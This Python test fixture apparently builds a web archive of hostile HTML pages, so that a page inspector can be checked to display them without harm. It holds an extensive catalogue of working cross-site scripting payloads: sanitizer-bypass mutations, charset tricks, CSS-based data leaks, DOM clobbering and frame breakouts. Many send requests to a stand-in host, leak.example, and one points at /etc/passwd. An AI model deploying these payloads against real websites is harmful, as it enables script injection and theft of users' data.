"""Web pages that attack whoever shows them, to test that the page inspector shows them without harm.

Each attack tries to do one of: run a script (which sets a canary everywhere it can), send a request to a host that
nobody may ask, send the window elsewhere, or break out of what is put around it.
"""

from __future__ import annotations

import io

from gristmill.archive import WarcWriter

LEAK = "http://leak.example"
"""Where attacks send what they find; no request may go there."""
HIT = (
    "try{top.document.title='HIT'}catch(e){};try{document.title='HIT'}catch(e){};window.HIT=1;"
    "try{localStorage.setItem('HIT','1')}catch(e){};try{parent.postMessage('HIT','*')}catch(e){};"
    f"try{{fetch('{LEAK}/fetch')}}catch(e){{}};try{{top.location='{LEAK}/top'}}catch(e){{}};"
    f"new Image().src='{LEAK}/image'"
).replace('"', "'")
_SVG = "http://www.w3.org/2000/svg"
_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="

ATTACKS: dict[str, str | bytes] = {
    "script": f"<script>{HIT}</script>",
    "script from elsewhere": f"<script src='{LEAK}/a.js'></script>",
    "script module": f"<script type=module>{HIT}</script><script nomodule>{HIT}</script>",
    "script import map": f'<script type=importmap>{{"imports":{{"a":"{LEAK}/a.js"}}}}</script><script type=module>import "a"</script>',
    "script in capitals": f"<ScRiPt\t>{HIT}</sCrIpT\n>",
    "script with a slash": f"<script/x>{HIT}</script/x>",
    "script of ours": "<script src='/static/app.js'></script>",
    "speculation rules": f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{LEAK}/spec"]}}]}}</script>',
    "handler of a picture": f'<img src=x onerror="{HIT}">',
    "handler without quotes": f"<img/src=`x`/onerror={HIT.replace(' ', '')}>",
    "handler behind a null": f'<img src=x on\0error="{HIT}" onerror\0="{HIT}">',
    "handler with a line end": f'<img src=x onerror\n=\n"{HIT}">',
    "handler of the body": f'<body onload="{HIT}" onpageshow="{HIT}" onhashchange="{HIT}">',
    "focus": f'<input autofocus onfocus="{HIT}"><button autofocus onfocus="{HIT}">b</button>',
    "content that gets focus": f'<div contenteditable autofocus onfocus="{HIT}" tabindex=0>text</div>',
    "details": f'<details open ontoggle="{HIT}"><summary>s</summary>d</details>',
    "marquee": f'<marquee onstart="{HIT}">moving</marquee>',
    "media": f'<video autoplay onloadstart="{HIT}" src="{LEAK}/v"><source onerror="{HIT}" src="{LEAK}/s"></video><audio src="{LEAK}/a" onerror="{HIT}">',
    "animation event": f'<style>@keyframes k{{from{{left:0}}}}b{{animation:k 1s}}</style><b onanimationstart="{HIT}" ontransitionend="{HIT}">b</b>',
    "pointer": f'<div style="position:fixed;inset:0" onpointerover="{HIT}" onmousemove="{HIT}" onwheel="{HIT}">over all</div>',
    "svg onload": f'<svg onload="{HIT}"><text>t</text></svg>',
    "svg script": f'<svg xmlns="{_SVG}"><script>{HIT}</script><script href="{LEAK}/s.js"/></svg>',
    "svg script from data": f'<svg><script xlink:href="data:text/javascript,{HIT}"></script></svg>',
    "svg use": f'<svg><use href="data:image/svg+xml,<svg id=x xmlns={_SVG}><image href=1 onerror={HIT} /></svg>#x"/><use xlink:href="{LEAK}/u.svg#x"/></svg>',
    "svg animate": f'<svg><a><animate attributeName=href values="javascript:{HIT}" begin=0s /><text y=20>click</text></a><set attributeName=onmouseover to="{HIT}" begin=0s /><animate onbegin="{HIT}" attributeName=x dur=1s></svg>',
    "svg foreign object": f'<svg><foreignObject><iframe srcdoc="<script>{HIT}</script>"></iframe><body onload="{HIT}"></foreignObject></svg>',
    "svg image and filter": f'<svg><image href="{LEAK}/i.png"/><filter id=f><feImage href="{LEAK}/f.png"/></filter><rect filter="url({LEAK}/x.svg#f)" fill="url({LEAK}/y.svg#f)" width=9 height=9 /></svg>',
    "svg style": f"<svg><style>@import '{LEAK}/svg.css';*{{fill:url({LEAK}/fill)}}</style><text>t</text></svg>",
    "mathml link": f'<math><maction actiontype="statusline" xlink:href="javascript:{HIT}">click</maction><mtext href="javascript:{HIT}">m</mtext></math>',
    "mutation by mathml": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={HIT}&gt;"></mglyph></table></mtext></math>',
    "mutation by svg style": f'<svg></p><style><a id="</style><img src=x onerror={HIT}>"></style></svg>',
    "mutation by form": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{HIT}"></style></mglyph></form>',
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={HIT}>"></noscript>',
    "mutation by select": f'<select><style></select><img src=x onerror="{HIT}"></style></select>',
    "mutation by annotation": f'<math><annotation-xml encoding="text/html"><style></math><img src=x onerror="{HIT}"></style></annotation-xml></math>',
    "mutation by comment": f'<!--><img src=x onerror="{HIT}">--><!--!> <img src=x onerror="{HIT}"> --!><img src=x onerror="{HIT}"><!---><script>{HIT}</script>-->',
    "cdata": f'<svg><![CDATA[><img src=x onerror="{HIT}">]]></svg><![CDATA[<script>{HIT}</script>]]>',
    "processing instruction": f'<?xml-stylesheet href="{LEAK}/x.xsl" type="text/xsl"?><?php <img src=x onerror="{HIT}"> ?>',
    "title breakout": f'</title><script>{HIT}</script><title></title><img src=x onerror="{HIT}">',
    "style breakout": f'</style><script>{HIT}</script><style>a{{content:"</style><img src=x onerror={HIT}>"}}</style>',
    "textarea breakout": f'<textarea></textarea><script>{HIT}</script><textarea><img title="</textarea><img src=x onerror={HIT}>">',
    "xmp breakout": f'<xmp></xmp><script>{HIT}</script><xmp><p title="</xmp><svg onload={HIT}>"></xmp>',
    "template": f"<template><script>{HIT}</script></template><div><template shadowrootmode=open><script>{HIT}</script><img src={LEAK}/shadow></template></div>",
    "iframe text": f'<iframe><!--</iframe><img src=x onerror="{HIT}">--></iframe><noembed><p title="</noembed><img src=x onerror={HIT}>"></noembed><noframes><p title="</noframes><img src=x onerror={HIT}>"></noframes>',
    "our own wrapper closed": f'</gm-block></pre></div></body></html><script>{HIT}</script><gm-block id="gm-block-0" class="gm-block" onclick="{HIT}">mine</gm-block>',
    "quotes in text": f"\"'><script>{HIT}</script> \" onmouseover=\"{HIT}\" x=\"",
    "quotes in an attribute": f"<p class='\"><script>{HIT}</script>' lang='\" onclick=\"{HIT}' id=\"'><img src=x onerror={HIT}>\">text</p>",
    "references in attributes": f'<a href="&#106;&#97;vascript:{HIT}" style="background:&#117;rl({LEAK}/ref)">a</a>',
    "javascript address": f'<a href="javascript:{HIT}" id=go>click me</a><a href="java\tscript:{HIT}">tab</a><a href=" \x01javascript:{HIT}">control</a>',
    "data address": f'<a href="data:text/html;base64,{_B64}">d</a><iframe src="data:text/html,<script>{HIT}</script>"></iframe><object data="data:text/html;base64,{_B64}"></object><embed src="data:image/svg+xml;base64,{_B64}">',
    "blob and file": f'<a href="blob:null/1">b</a><a href="filesystem:{LEAK}/x">f</a><iframe src="file:///etc/passwd"></iframe><img src="file:///etc/passwd"><a href="view-source:{LEAK}">v</a>',
    "srcdoc": f'<iframe srcdoc="&lt;script&gt;{HIT}&lt;/script&gt;&lt;img src={LEAK}/srcdoc&gt;"></iframe>',
    "frames": f'<iframe src="{LEAK}/iframe"></iframe><portal src="{LEAK}/portal"></portal><fencedframe src="{LEAK}/ff"></fencedframe>',
    "frame set": f'<frameset onload="{HIT}"><frame src="{LEAK}/frame"><frame src="javascript:{HIT}"></frameset>',
    "objects": f'<object data="{LEAK}/o.swf" type=application/x-shockwave-flash><param name=movie value="{LEAK}/m.swf"></object><embed src="{LEAK}/e.swf"><applet code=A archive="{LEAK}/a.jar"></applet>',
    "refresh": f'<meta http-equiv=refresh content="0;url={LEAK}/refresh"><meta http-equiv="refresh" content="0;url=javascript:{HIT}">',
    "meta policy and cookie": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *; default-src *\"><meta http-equiv=set-cookie content='hit=1'><meta name=referrer content=unsafe-url>",
    "base": f'<base href="{LEAK}/" target=_top><a href=x>a</a><img src=base.png><script src=base.js></script>',
    "form": f'<form action="{LEAK}/form" method=post target=_top><input name=a value=b><button id=send>send</button></form><form id=f action="javascript:{HIT}"></form><button form=f formaction="{LEAK}/fa">x</button><input type=image src="{LEAK}/submit.png" formaction="javascript:{HIT}">',
    "dialog form": f'<dialog open><form method=dialog><button autofocus formaction="javascript:{HIT}">x</button></form></dialog>',
    "top navigation": f'<a href="{LEAK}/top" target=_top id=top>top</a><a href="{LEAK}/blank" target=_blank rel=opener>blank</a><a href="{LEAK}/parent" target=_parent>parent</a>',
    "ping": f'<a href="#x" ping="{LEAK}/ping">ping</a><a href="{LEAK}/d" download>download</a><a href="{LEAK}/attr" attributionsrc="{LEAK}/as">a</a><img attributionsrc="{LEAK}/as2" src="{LEAK}/i">',
    "map": f'<img usemap=#m src="{LEAK}/m.png" width=99 height=99><map name=m><area shape=default href="javascript:{HIT}"></map>',
    "pictures": f'<img src="{LEAK}/1" srcset="{LEAK}/2 2x" lowsrc="{LEAK}/3" dynsrc="{LEAK}/4" longdesc="{LEAK}/5"><picture><source srcset="{LEAK}/6"><img src="{LEAK}/7" loading=eager></picture><image src="{LEAK}/8" xlink:href="{LEAK}/9">',
    "picture of svg": f"<img src=\"data:image/svg+xml,<svg xmlns='{_SVG}' onload='{HIT.replace(chr(39), '')}'><image href='{LEAK}/svgimg'/></svg>\">",
    "old backgrounds": f'<body background="{LEAK}/bg"><table background="{LEAK}/table"><tr><td background="{LEAK}/td">x</td></tr></table>',
    "css import": f"<style>@import '{LEAK}/1.css';@import url({LEAK}/2.css);@\\69mport '{LEAK}/3.css';@im/**/port '{LEAK}/4.css';</style>",
    "css url": f"<style>body{{background:url({LEAK}/1);cursor:url('{LEAK}/2'),auto;list-style:u\\72 l({LEAK}/3);background-image:image-set('{LEAK}/4' 1x);border-image-source:cross-fade(url({LEAK}/5),url({LEAK}/6),50%);mask:url({LEAK}/7)}}</style>",
    "css that reads values": f"<style>input[value^=a]{{background:url({LEAK}/a)}}#x:target{{background:url({LEAK}/t)}}</style><input value=abc><p id=x style='background:url({LEAK}/s);filter:url({LEAK}/f.svg#x)'>x</p>",
    "css font": f"<style>@font-face{{font-family:x;src:url({LEAK}/f.woff);unicode-range:U+41}}p{{font-family:x}}</style><p>AAA</p>",
    "css that acts": f"<style>p{{behavior:url({LEAK}/b.htc);-moz-binding:url({LEAK}/b.xml#x);width:expression({HIT})}}</style><p style=\"width:expression({HIT})\">p</p>",
    "style sheet": f'<link rel=stylesheet href="{LEAK}/s.css"><link rel="stylesheet" href="data:text/css,@import url({LEAK}/d.css)"><link rel=icon href="{LEAK}/icon"><link rel=manifest href="{LEAK}/manifest">',
    "preload": "".join(f'<link rel={rel} href="{LEAK}/{rel}" as=script>' for rel in ("preload", "prefetch", "modulepreload", "prerender", "preconnect", "dns-prefetch", "next")),
    "import": f'<link rel=import href="{LEAK}/import.html"><link rel=stylesheet href="javascript:{HIT}"><link rel=stylesheet onload="{HIT}" href="data:text/css,">',
    "clobbering": f'<form id=gristmill name=gristmill><input name=ask><input name=token><input id=body name=head></form><img name=getElementById><a id=location href="{LEAK}">x</a><a id=defaultView>y</a>',
    "popover": f'<button popovertarget=p autofocus>open</button><div id=p popover=manual onbeforetoggle="{HIT}" ontoggle="{HIT}">pop</div><button commandfor=d command=show-modal>c</button><dialog id=d onbeforetoggle="{HIT}" oncommand="{HIT}">d</dialog>',
    "access key": f'<a accesskey=x onclick="{HIT}" href=#>a</a><input type=hidden accesskey=x onclick="{HIT}"><link rel=canonical accesskey=x onclick="{HIT}" href=x>',
    "custom elements": f'<x-a is=x-b onclick="{HIT}" onfocus="{HIT}" tabindex=1 autofocus>custom</x-a><button is=x-c onfocus="{HIT}" autofocus>c</button>',
    "content visibility": f'<div style="content-visibility:auto" oncontentvisibilityautostatechange="{HIT}">text</div><div onscrollend="{HIT}" onscroll="{HIT}" style="height:9px;overflow:scroll">text text text</div>',
    "window name": f'<iframe name="{HIT}" src="javascript:eval(name)"></iframe><a target="{HIT}" href="javascript:name">x</a>',
    "unclosed tag": f'<p>text <img src=x onerror="{HIT}" <b',
    "unclosed attribute": f'<p>text <a title="<img src=x onerror={HIT}> <script>{HIT}</script>',
    "unclosed comment": f'<p>text <!-- <script>{HIT}</script>',
    "unclosed script": f"<p>text <script>{HIT}",
    "plaintext": f'<p>text <plaintext></plaintext><script>{HIT}</script><img src=x onerror="{HIT}">',
    "long attribute": f'<p class="{"a " * 40_000}" data-x="{"x" * 300_000}" onclick="{HIT}">text <img alt="{"b" * 70_000}" src=x onerror="{HIT}"></p>',
    "many attributes": f"<p {' '.join(f'a{number}=1' for number in range(20_000))} onclick='{HIT}'>text</p>",
    "deep": "<div>" * 5_000 + f"<script>{HIT}</script>text" + "</div>" * 5_000,
    "misnested": f"<b><table><a><tr><td></a><script>{HIT}</script>text</b></table><a><p></a><a onclick='{HIT}'>x" * 50,
    "nulls": f"<\0script>{HIT}</\0script><scr\0ipt>{HIT}</script><img src=x o\0nerror='{HIT}'>text\0text",
    "utf-7": "<meta charset=utf-7><p>text +ADw-script+AD4-" + HIT + "+ADw-/script+AD4-",
    "utf-16": ("<p>text <script>" + HIT + "</script><img src=x onerror='" + HIT + "'>").encode("utf-16"),
    "iso-2022-jp": b"<meta charset=iso-2022-jp><p>text \x1b$B<img alt=\"\x1b(B\" src=x onerror=\"" + HIT.encode() + b"\">\x1b(J\\",
    "half of a character": b"<meta charset=gbk><p title=\"\x81\" onclick=\"" + HIT.encode() + b"\">text \xe0\x80\x80\xed\xa0\x80<img src=x\xc2 onerror='" + HIT.encode() + b"'>",
    "wide brackets": f"<p>text \uff1cscript\uff1e{HIT}\uff1c/script\uff1e \u2028\u2029 <p title='\u2028' onclick='{HIT}'>text",
    "separators": f'<svg/onload="{HIT}"><img\fsrc=x\fonerror="{HIT}"><img\x0bsrc=x onerror="{HIT}"><a\xa0href="javascript:{HIT}">x</a>',
    "two of one name": f'<img src=x onerror=1 onerror="{HIT}"><p class=a class=\'"><script>{HIT}</script>\'>text</p>',
}
"""Attacks by name."""
_KEEPS = "A mill by the river grinds grain into flour, and the miller sells it to the bakers of the town. "
HOSTILE_TITLE = f"</title></h1><script>{HIT}</script>\"'><img src=x onerror={HIT}>"
HOSTILE_URL = "http://evil.example/\"'><script>top.HIT=1</script>?a=<img/src=x/onerror=top.HIT=1>&javascript:alert(1)#{{7*7}}"


def attack_page(attack: str | bytes) -> bytes:
    """Put an attack into a page that is kept, as it has some text, before and behind the attack."""
    body = attack if isinstance(attack, bytes) else attack.encode("utf-8", "surrogatepass")
    if body.startswith((b"\xff\xfe", b"\xfe\xff")):
        return body
    text = f"<p>{_KEEPS * 3}</p>".encode()
    return b"<!DOCTYPE html><html><title>Mill</title>" + text + body + text


def attack_archive() -> bytes:
    """Make an archive of a page for each attack, one of all of them, and one whose title and address attack."""
    stream = io.BytesIO()
    writer = WarcWriter(stream)
    pages = {f"http://{number}.example/": attack_page(attack) for number, attack in enumerate(ATTACKS.values())}
    together = "\n".join(attack for attack in ATTACKS.values() if isinstance(attack, str) and len(attack) < 5_000)
    pages["http://all.example/"] = attack_page(together)
    pages[HOSTILE_URL] = (
        f"<title>{HOSTILE_TITLE.replace('</title>', '&lt;/title&gt;')}</title>"
        f"<meta name=author content='{HOSTILE_TITLE.replace(chr(39), '')}'><p>{_KEEPS * 4}".encode()
    )
    for url, body in pages.items():
        writer.write_response(url, "2024-05-01T00:00:00Z", 200, {"Content-Type": "text/html"}, body)
    return stream.getvalue()
